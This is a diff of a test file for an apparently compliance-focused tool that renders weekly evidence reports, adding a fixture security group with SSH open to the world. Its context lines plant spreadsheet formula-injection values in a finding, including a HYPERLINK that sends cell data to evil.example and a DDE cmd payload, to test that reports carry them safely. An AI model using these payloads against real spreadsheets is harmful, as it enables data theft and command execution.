@@ -30,6 +30,11 @@ interface ReportJson {
   findings: Array<Finding & { scanId: string | null; lifecycle: { state: string } | null }>;
 }
 
+const SG_RULES = [
+  { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0', Description: 'temporary vendor access' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] },
+  { IpProtocol: 'tcp', FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: '10.0.0.0/8' }] },
+];
+let sgId: string;
 let dir: string;
 let store: ScanStore;
 let out: WeeklyEvidence;
@@ -55,6 +60,11 @@ beforeAll(async () => {
   if (victim === undefined) throw new Error('fixture has no failing result');
   victim.resource.name = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
   victim.message = '@SUM(1+1) -2 +cmd|" /C calc"!A0';
+  // A security group as the SSH control records it: the identifiers first, the deciding rules last.
+  const sg = scan.results.find((f) => f.status === 'FAIL' && f.controlId === 'aws-ssh-not-open' && f !== victim);
+  if (sg === undefined) throw new Error('fixture has no failing SSH result');
+  sg.evidence = [{ api: 'ec2:DescribeSecurityGroups', region: sg.region, readAt: NOW.toISOString(), fields: { GroupId: 'sg-0a0a0a0a0a0a00004', GroupName: 'a-rather-long-security-group-name-for-the-jump-hosts', VpcId: 'vpc-0b22c0ffee5ec0002', IpPermissions: SG_RULES } }];
+  sgId = sg.id;
   await store.recordScan({ ...scan, scanId: `${scan.scanId}-late`, finishedAt: new Date(Date.parse(scan.finishedAt) + 3_600_000).toISOString() });
   out = await buildWeeklyEvidence(store, { week: WEEK, organization: 'Acme Health — Клиника', mutes: SAMPLE_MUTES, now: NOW });
   report = JSON.parse(readFileSync(join(dir, out.keys.json), 'utf8')) as ReportJson;
@@ -145,6 +155,15 @@ describe('report.pdf, read back with pdftotext', () => {
     expect(names.some((n) => /[\u4e00-\u9fff\u3040-\u30ff\uac00-\ud7af]/.test(n))).toBe(true);
     for (const name of names.filter((n) => /^[\p{L}\p{N}-]+$/u.test(n))) expect(text, name).toContain(name);
     expect(text).toContain('=HYPERLINK(');
+  });
+
+  it('shows the deciding evidence fields whole: a security group\'s IpPermissions', () => {
+    expect(report.findings.find((f) => f.id === sgId)?.status).toBe('FAIL');
+    const text = pdftotext([]).replace(/\s+/g, '');
+    expect(text).toContain(`IpPermissions=${JSON.stringify(SG_RULES).replace(/\s+/g, '')}`);
+    // The identifiers follow, after the deciding fields.
+    expect(text).toContain('GroupId=sg-0a0a0a0a0a0a00004');
+    expect(text.indexOf('IpPermissions=')).toBeLessThan(text.indexOf('GroupId=sg-0a0a0a0a0a0a00004'));
   });
 
   it('says what could not be assessed, NOT_ASSESSABLE as such', () => {
